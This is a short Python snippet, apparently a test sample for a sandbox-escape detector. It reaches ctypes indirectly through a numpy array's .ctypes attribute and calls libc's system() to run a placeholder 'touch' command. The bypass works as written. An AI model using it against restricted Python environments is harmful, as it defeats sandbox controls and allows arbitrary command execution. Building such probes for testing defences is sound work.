# family: ctypes
# goal: reach the ctypes module through an array's .ctypes helper
import numpy as np
helper = np.zeros(1).ctypes
ct = helper._ctypes
ct.CDLL(None).system(b"touch __MARKER_PATH__")
